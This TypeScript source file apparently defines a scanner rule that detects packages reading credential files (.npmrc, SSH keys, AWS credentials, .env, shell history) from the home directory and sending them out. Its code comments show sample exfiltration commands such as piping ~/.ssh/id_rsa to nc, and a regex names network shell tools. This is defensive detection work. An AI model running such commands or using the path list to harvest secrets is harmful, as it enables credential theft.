import { L } from '../src/analyze/flow.ts'
import { crossFileNote, eventLocation, onFileFlow, ownText, TheftEvidence } from '../src/analyze/flow-rules.ts'
import { classifyPath } from '../src/analyze/sensitive-paths.ts'
import { destinationOf, isShadyDestination } from '../src/analyze/sinks.ts'
import { defineRule } from '../src/types.ts'

const NETWORK_TOOL = /\b(?:curl|wget|nc|ncat|netcat|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b/i

/** Credential families: several files of one tool (the AWS SDK reading ~/.aws/credentials and ~/.aws/config) count once. */
function familyOf(target: string): string {
  if (/SSH/.test(target)) return 'ssh'
  if (/AWS/.test(target)) return 'aws'
  if (/npmrc|yarnrc/.test(target)) return 'npm'
  if (/git-credentials|gitconfig|GitHub/.test(target)) return 'git'
  if (/shell history/.test(target)) return 'history'
  if (/passwd|shadow/.test(target)) return 'system'
  return target
}

/**
 * Developer and system credentials read from the home directory (or /etc): `.npmrc`, `.ssh/`,
 * `.aws/credentials`, `.git-credentials`, `.docker/config.json`, `.kube/config`, `.config/gh`,
 * `.env`, shell history; critical when their content goes to a hard-coded or shady destination.
 */
export default defineRule({
  meta: {
    id: 'credential-file-theft',
    severity: 'high',
    description: 'Credential files (.npmrc, SSH keys, cloud credentials, .env) are read from the home directory and sent',
    docs: 'rules/credential-file-theft.md',
  },
  create(context) {
    const evidence = new TheftEvidence()
    let literals: string[] = []
    const literalTargets = () => {
      const out = new Set<string>()
      for (const value of literals) for (const x of classifyPath(value)) if (x.kind === 'credential') out.add(x.target)
      return [...out]
    }
    return {
      Program() {
        literals = []
      },
      StringLiteral(node) {
        // Credential names written as separate constants (['/.ssh/id_rsa', '/.aws/credentials'].map(read)),
        // classified only when a read needs them
        const v = node.value
        if (v.length > 200 || v.length < 4 || literals.length >= 1000 || (v.charCodeAt(0) !== 46 && v.charCodeAt(0) !== 47 && !v.includes('/.'))) return
        literals.push(v)
      },
      'Program:exit': onFileFlow((flow, file) => {
        evidence.collect(flow, file, {
          pathLabel: L.P_CRED,
          contentLabel: L.CRED,
          keepRead: (event) => !event.probe && ((event.pathTaint & L.HOMEDIR) !== 0 || event.pathText.startsWith('~') || event.pathText.startsWith('/etc/')),
          targetsOf: (event) => {
            let targets = classifyPath(event.pathText).filter((x) => x.kind === 'credential').map((x) => x.target)
            if (targets.length === 0) targets = literalTargets()
            return targets.length > 0 ? targets : ['a credential file']
          },
          keepSend: (_event, destination) => destination.kind !== 'local',
        })
        // curl -d @~/.npmrc http://…, cat ~/.ssh/id_rsa | nc host 80: a command that reads and sends
        for (const event of flow.exec) {
          if (event.family !== 'process' || !ownText(event) || !NETWORK_TOOL.test(event.text)) continue
          const targets = classifyPath(event.text).filter((x) => x.kind === 'credential').map((x) => x.target)
          if (targets.length === 0 || !/~|\/etc\/|\$HOME|%USERPROFILE%/.test(event.text)) continue
          const where = eventLocation(file, event)
          evidence.reads.push({ where, targets })
          evidence.sends.push({ where, destination: { kind: 'static', detail: 'the network by a shell command' }, note: crossFileNote(file, event) })
        }
        // Secret-looking environment variables (NPM_TOKEN, AWS_SECRET_ACCESS_KEY …) to a shady host
        for (const event of flow.network) {
          if ((event.taint & L.ENVKEY) === 0 || (event.taint & L.CRED) !== 0) continue
          const destination = destinationOf(event.url)
          if (!isShadyDestination(destination.kind)) continue
          const where = eventLocation(file, event)
          evidence.reads.push({ where, targets: ['secret environment variables'] })
          evidence.sends.push({ where, destination, note: crossFileNote(file, event, L.ENVKEY) })
        }
      }),
      'Package:exit'() {
        if (evidence.empty) return
        const targets = evidence.targets()
        const families = new Set(targets.map(familyOf))
        const list = targets.join(', ')
        const fixed = evidence.sends.find((s) => s.destination.kind !== 'dynamic' && s.destination.kind !== 'registry')
        const sent = fixed && evidence.sentFinding(`Credentials (${list || 'credential file content'}) are`, fixed, isShadyDestination(fixed.destination.kind) ? '' : ', a hard-coded destination')
        if (sent) {
          evidence.report(context, sent.severity, sent.message, sent.where)
        } else if (evidence.sends[0]) {
          const send = evidence.sends[0]
          evidence.report(context, 'medium', `Credential content (${list || 'a credential file'}) is sent to ${send.destination.detail}; fine for a client authenticating to a configured service, theft otherwise.${send.note}`, send.where)
        } else if (families.size >= 3) {
          const network = evidence.networkFiles > 0
          evidence.report(context, network ? 'critical' : 'high', `Sweeps ${families.size} kinds of credentials from the home directory (${list})${network ? ' in a package that also sends data over the network' : ''}.`)
        } else {
          evidence.report(context, 'low', `Reads ${list} from the home directory.`)
        }
      },
    }
  },
})
